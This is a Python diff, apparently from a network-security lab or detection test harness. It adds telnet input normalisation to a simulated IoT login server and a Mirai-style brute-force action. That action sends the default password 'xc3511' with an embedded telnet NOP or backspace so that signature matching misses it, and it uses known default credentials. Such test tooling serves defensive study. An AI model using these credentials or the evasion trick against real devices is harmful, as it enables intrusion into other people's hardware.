@@ -364,17 +364,45 @@ def _serve_http(address: str, port: int, handler) -> None:
     threading.Thread(target=server.serve_forever, daemon=True).start()
 
 
+def as_login_reads(line: bytes) -> bytes:
+    """What login gets of a typed line on a real device: telnetd removes
+    telnet commands (IAC ...), the terminal applies backspace and DEL."""
+    out = bytearray()
+    position = 0
+    while position < len(line):
+        byte = line[position]
+        if byte == 0xFF and position + 1 < len(line):
+            command = line[position + 1]
+            if command == 0xFF:
+                out.append(0xFF)
+                position += 2
+            elif command == 0xFA:                       # subnegotiation: to IAC SE
+                end = line.find(b"\xff\xf0", position + 2)
+                position = len(line) if end < 0 else end + 2
+            else:                                       # WILL/WONT/DO/DONT take an option
+                position += 3 if 0xFB <= command <= 0xFE else 2
+        elif byte in (0x08, 0x7F):
+            if out:
+                out.pop()
+            position += 1
+        else:
+            out.append(byte)
+            position += 1
+    return bytes(out)
+
+
 class TelnetLogin(socketserver.StreamRequestHandler):
-    """A telnet-like login on 23 that accepts the factory default."""
+    """A telnet-like login on 23 that accepts the factory default, reading
+    the typed lines as a device's telnetd and terminal do (as_login_reads)."""
 
     def handle(self) -> None:
         self.request.settimeout(10)
         try:
             for _ in range(5):
                 self.wfile.write(b"login: ")
-                user = self.rfile.readline(256).strip()
+                user = as_login_reads(self.rfile.readline(256)).strip()
                 self.wfile.write(b"Password: ")
-                password = self.rfile.readline(256).strip()
+                password = as_login_reads(self.rfile.readline(256)).strip()
                 if user == b"root" and password == DEVICE_TELNET_PASSWORD.encode():
                     self.wfile.write(b"\r\nBusyBox v1.19 built-in shell\r\n# ")
                     self.rfile.readline(256)
@@ -535,8 +563,9 @@ def _udp_exchange(host: str, port: int, data: bytes, timeout: float = 2.0) -> di
         sock.close()
 
 
-def _telnet_login(host: str, user: str, password: str, source: str | None) -> dict:
-    """Mirai-style: wait for the prompts, send the default credentials."""
+def _telnet_login(host: str, user: str, password: str | bytes, source: str | None) -> dict:
+    """Mirai-style: wait for the prompts, send the default credentials
+    (`password` bytes: exactly these keystrokes and telnet commands)."""
     try:
         with socket.create_connection((host, 23), timeout=3,
                                       source_address=(source, 0) if source else None) as sock:
@@ -544,7 +573,8 @@ def _telnet_login(host: str, user: str, password: str, source: str | None) -> di
             seen = sock.recv(256)
             sock.sendall(user.encode() + b"\r\n")
             seen += sock.recv(256)
-            sock.sendall(password.encode() + b"\r\n")
+            typed = password if isinstance(password, bytes) else password.encode()
+            sock.sendall(typed + b"\r\n")
             deadline = time.time() + 3
             while time.time() < deadline and b"# " not in seen:
                 chunk = sock.recv(256)
@@ -607,6 +637,12 @@ def act(action: str, args: list[str]) -> dict:
         for user, password in (("admin", "admin"), ("root", "vizxv"),
                                ("root", DEVICE_TELNET_PASSWORD)):
             tried.append(_telnet_login(args[0], user, password, ATTACKER))
+        return {"ok": True, "shell": any(t["shell"] for t in tried), "tries": tried}
+    if action == "mirai-edited":
+        # The working default typed so a raw content match misses it but the
+        # server still reads xc3511: a telnet NOP inside it, or a backspace.
+        tried = [_telnet_login(args[0], "root", typed, ATTACKER)
+                 for typed in (b"xc\xff\xf13511", b"xc35X\x7f11")]
         return {"ok": True, "shell": any(t["shell"] for t in tried), "tries": tried}
     if action == "inject":
         return _http_request(args[0], 80, "GET",
